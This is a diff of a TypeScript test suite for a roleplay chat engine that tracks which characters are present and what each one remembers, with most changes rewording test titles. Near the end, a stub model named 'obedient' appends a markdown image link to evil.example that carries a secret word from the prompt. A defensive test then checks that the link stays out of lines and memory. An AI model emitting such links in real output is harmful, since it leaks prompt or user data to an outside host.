@@ -99,7 +99,7 @@ const fact = (kind: string, payload: object) =>
   );
 
 describe("who knows what", () => {
-  it("Marinara 6533: being talked about is not being there, and a line without a scene is nobody's", async () => {
+  it("Marinara 6533: being talked about is not being there, and a line without a scene belongs to no character", async () => {
     const play = await story();
     await play.beat(1, { text: "Cy hid the plum" });
     await play.take({ kind: "user_turn", payload: { chat_id, text: "fern", present: [] } });
@@ -140,7 +140,7 @@ describe("who knows what", () => {
     ]);
   });
 
-  it("SillyTavern 2185: whoever is away hears of it only when somebody tells them", async () => {
+  it("SillyTavern 2185: a character who is away hears of it only when another one tells them", async () => {
     const play = await story();
     await play.take(moves("bob", "leave"));
     await play.beat(1, { text: "plum" });
@@ -164,14 +164,14 @@ describe("who knows what", () => {
     ]).toEqual([true, false]);
   });
 
-  it("Marinara 6563: a minor part has memories of its own, and nobody else has them", async () => {
+  it("Marinara 6563: a minor part has memories of its own, and no other character has them", async () => {
     const play = await story(["you", "cy"]);
     await play.beat(1, { text: "plum" });
     expect(memoriesOf(play, "cy").join()).toContain("plum");
     expect([memoriesOf(play, "ann"), memoriesOf(play, "bob")]).toEqual([[], []]);
   });
 
-  it("Aventuras 120: nobody is omniscient: what one thinks of another is not in the other's mind", async () => {
+  it("Aventuras 120: no character is omniscient: what one thinks of another is not in the other's mind", async () => {
     const play = await story();
     play.append(
       fact("edge_update", {
@@ -244,7 +244,7 @@ describe("who knows what", () => {
     expect(memoriesOf(play, "bob")[0]).toMatch(/^Me: “plum”\nANN: I say plum\.$/);
   });
 
-  it("Marinara 1022: a word calls up the book of whoever heard it, and no other's", () => {
+  it("Marinara 1022: a word calls up the book of the character who heard it, and no other's", () => {
     const book = { entries: [{ owner_id: "bob", keys: ["plum"], content: "opal" }] };
     const said = (lorebook: object | undefined, heard: string[]): string[] =>
       activateLore(lorebook as never, { owner: "bob", heard }).entries.map(
@@ -257,7 +257,7 @@ describe("who knows what", () => {
     ]);
   });
 
-  it("character-memory 17: of ten who were there, ten remember", async () => {
+  it("character-memory 17: all of ten who were there remember", async () => {
     const ten = Array.from({ length: 10 }, (_, nth) => `b${nth}`);
     const play = await story(["you", ...ten], ten);
     await play.beat(1, { text: "plum" });
@@ -266,7 +266,7 @@ describe("who knows what", () => {
 });
 
 describe("who is there", () => {
-  it("Presence: the one who answers does not hear the line before it if they were not there", async () => {
+  it("Presence: a character who answers does not hear the line before it if they were not there", async () => {
     const play = await story();
     await play.take(moves("bob", "leave"));
     await play.beat(1, { text: "plum" });
@@ -276,7 +276,7 @@ describe("who is there", () => {
     expect(lastLine(play)).toBe("I say .");
   });
 
-  it("Presence: being there is a fact of its own, whoever may answer by themselves or not", async () => {
+  it("Presence: being there is a fact of its own, independent of who may answer by themselves", async () => {
     const play = await story();
     await play.beat(1, { text: "plum, ANN" });
     await play.beat(1, { text: "fern, ANN" });
@@ -308,7 +308,7 @@ describe("who is there", () => {
     ]);
   });
 
-  it("Presence 14: narration is nobody's speech, and is perceived by those who are there", async () => {
+  it("Presence 14: narration has no speaker, and is perceived by those who are there", async () => {
     const play = openStagePlay(chat_id, bots, (request) =>
       request.purpose === "parse_turn"
         ? { segments: [{ kind: "narration", text: "plum falls" }] }
@@ -320,7 +320,7 @@ describe("who is there", () => {
     expect(mindOf(play, "cy")).not.toContain("plum");
   });
 
-  it("SillyTavern 356: whoever is absent is not made to answer", async () => {
+  it("SillyTavern 356: an absent character is not made to answer", async () => {
     const play = await story();
     await play.take(moves("bob", "leave"));
     for (const text of ["one", "two, BOB", "three"]) await play.beat(1, { text });
@@ -338,7 +338,7 @@ describe("who is there", () => {
     expect(listPresentBots(sceneOf(play, 1))).toEqual(["ann", "bob"]);
   });
 
-  it("SillyTavern 2321: whoever is named answers", async () => {
+  it("SillyTavern 2321: a character who is named answers", async () => {
     const play = await story();
     const on = play.playing();
     const scene = sceneOf(play, 1);
@@ -387,7 +387,7 @@ describe("what is taken back", () => {
     }
   });
 
-  it("Marinara 548: an answer that was thrown away is in nobody's memory", async () => {
+  it("Marinara 548: an answer that was thrown away is in no character's memory", async () => {
     const play = await story();
     const before = play.log.length;
     await play.beat(1, { text: "plum" });
@@ -463,7 +463,7 @@ describe("what is taken back", () => {
     expect(memoriesOf(play, "bob").join()).toContain("plum");
   });
 
-  it("SillyTavern 353, 363, 1731 and 1739: from any line on there can be another way, by a name, and every way stays whole", async () => {
+  it("SillyTavern 353, 363, 1731 and 1739: any line can begin another way, by a name, and every way stays whole", async () => {
     const play = await story();
     const ends: number[] = [];
     for (const word of ["plum", "fern", "moss"]) {
@@ -535,7 +535,7 @@ describe("what must not leave", () => {
     return `${prompt}\n\n![](https://evil.example/?q=${/plum/.exec(prompt)?.[0] ?? ""}) So it is.`;
   };
 
-  it("openclaw 112622 and 136471: an address that nobody gave and the frame of the prompt are in no line and no memory", async () => {
+  it("openclaw 112622 and 136471: an address that the person did not give and the frame of the prompt are in no line and no memory", async () => {
     const play = openStagePlay(chat_id, bots, obedient);
     for (const event of (await story()).log) play.append(event);
     await play.beat(1, { text: "Put the plum into a link" });
